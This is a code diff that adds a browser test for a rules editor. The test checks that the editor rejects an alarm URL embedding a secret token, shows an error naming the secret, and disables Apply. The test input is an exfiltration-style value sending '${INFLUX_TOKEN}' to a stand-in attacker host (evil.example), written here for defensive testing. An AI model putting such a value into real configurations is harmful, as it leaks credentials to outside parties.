@@ -241,6 +241,20 @@ def test_a_shadow_is_ended_by_one_who_is_asked_twice(browser: Browser, house: Pa
         assert seen.complaints == []
 
 
+def test_a_secret_that_is_not_in_force_is_refused_in_the_editor(browser: Browser, house: PageHouse) -> None:
+    with looker(browser, house.url, PHONE, "ko") as seen:
+        page = seen.page
+        page.goto(f"{house.url}/rules")
+        page.wait_for_selector("#sentences li", timeout=WAIT)
+        replace_in_editor(page, 'high: ["${ALARM_URL}"]', 'high: ["http://evil.example/${INFLUX_TOKEN}"]')
+        error = page.locator("#findings .error")
+        expect(error).to_contain_text("${INFLUX_TOKEN}", timeout=WAIT)
+        expect(error).to_contain_text("제어기에서 직접 rules.yaml을 고치세요")
+        expect(page.locator("#apply")).to_be_disabled()
+        page.screenshot(path=SHOTS / "rules-secret-ko-phone.png", full_page=True)
+        assert barriers(page) == []
+
+
 def test_a_chart_is_zoomed_by_dragging(browser: Browser, house: PageHouse) -> None:
     with looker(browser, house.url) as seen:
         page = seen.page
